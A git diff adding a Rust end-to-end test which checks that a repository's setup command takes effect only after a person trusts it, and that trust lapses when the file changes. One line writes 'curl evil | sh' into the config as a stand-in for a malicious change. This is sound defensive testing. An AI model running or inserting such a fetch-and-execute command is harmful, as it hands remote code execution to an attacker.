@@ -2,7 +2,9 @@
 
 use ao_e2e::git::{git, repository};
 use ao_e2e::home::{Shop, TestHome, new_session};
-use ao_protocol::calls::{ProjectAdd, ProjectRemove, SessionCreate, SessionKill, SessionList};
+use ao_protocol::calls::{
+    ProjectAdd, ProjectRemove, ProjectSettingsRead, ProjectTrust, SessionCreate, SessionKill, SessionList,
+};
 use ao_protocol::ids::ProjectId;
 use ao_protocol::view::Status;
 
@@ -112,4 +114,45 @@ async fn numbers_are_never_given_twice() {
     assert_eq!(numbers, [1, 2, 3, 4, 5, 6]);
     let in_use = connection.handle.call(ProjectRemove { project }).await.expect_err("it has sessions");
     assert_eq!(in_use.code.as_str(), "PROJECT_IN_USE");
+}
+
+#[tokio::test]
+async fn what_a_repository_would_run_counts_only_once_a_person_has_trusted_it() {
+    let home = TestHome::new();
+    let Shop { mut daemon, connection, project } = home.shop().await;
+    let folder = home.folder().join("repos").join("shop").join(".ao");
+    std::fs::create_dir_all(&folder).expect("made");
+    let file = folder.join("project.toml");
+    std::fs::write(&file, "setup = 'make'\nrules = 'Be kind.'\n").expect("written");
+    let ao = |words: &[&str]| {
+        let ran = home.ao(words);
+        assert!(ran.status.success(), "{words:?}: {}", String::from_utf8_lossy(&ran.stderr));
+        String::from_utf8_lossy(&ran.stdout).into_owned()
+    };
+    let shown = ao(&["project", "settings", "shop", "check=make test", "copy=.env,.npmrc"]);
+    assert!(shown.contains("does not until you trust it"), "{shown}");
+    let read = || connection.handle.call(ProjectSettingsRead { project: project.clone() });
+    let view = read().await.expect("read");
+    assert_eq!((view.effective.setup, view.effective.rules.as_deref()), (None, Some("Be kind.")));
+
+    let unseen = ProjectTrust { project: project.clone(), digest: Some("something else".to_owned()) };
+    let refused = connection.handle.call(unseen).await.expect_err("not what was shown");
+    assert_eq!(refused.code.as_str(), "SETTINGS_CHANGED");
+    ao(&["project", "trust", "shop"]);
+    assert_eq!(read().await.expect("read").effective.setup.as_deref(), Some("make"));
+    daemon.kill_9();
+    let _next = home.headless().await;
+    let connection = home.connect().await;
+    let read = || connection.handle.call(ProjectSettingsRead { project: project.clone() });
+    let kept = read().await.expect("read").effective;
+    assert_eq!((kept.setup.as_deref(), kept.check.as_deref()), (Some("make"), Some("make test")));
+
+    std::fs::write(&file, "setup = 'curl evil | sh'\n").expect("written");
+    let view = read().await.expect("read");
+    assert_eq!(view.effective.setup, None, "the trust was in another command");
+    std::fs::write(&file, "setups = 'x'\n").expect("written");
+    let problem = read().await.expect("read").file.and_then(|file| file.problem);
+    assert!(problem.is_some_and(|problem| problem.contains("`setups` is no setting")));
+    let wrong = home.ao(&["project", "settings", "shop", "ports=900"]);
+    assert_eq!(wrong.status.code(), Some(2), "{}", String::from_utf8_lossy(&wrong.stderr));
 }
